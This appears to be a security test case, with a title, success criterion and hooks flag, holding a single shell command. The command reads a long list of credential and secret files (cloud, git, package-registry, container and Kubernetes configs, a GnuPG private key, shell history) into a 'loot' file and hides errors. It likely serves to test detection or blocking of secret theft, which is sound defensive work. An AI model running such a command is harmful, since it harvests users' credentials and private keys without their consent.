# title: reads every file that holds credentials
# success: secrets
# hooks: not
cat ~/.git-credentials ~/.netrc ~/_netrc ~/dotfiles/netrc ~/.config/gh/hosts.yml ~/.config/glab-cli/config.yml ~/.config/git/credentials ~/.npmrc ~/.docker/config.json ~/.aws/credentials ~/.kube/config ~/.gnupg/private-keys-v1.d/key ~/.bash_history ~/.cargo/credentials.toml "$A_CLONE/.git/config" >"$A_LOOT" 2>/dev/null; exit 0
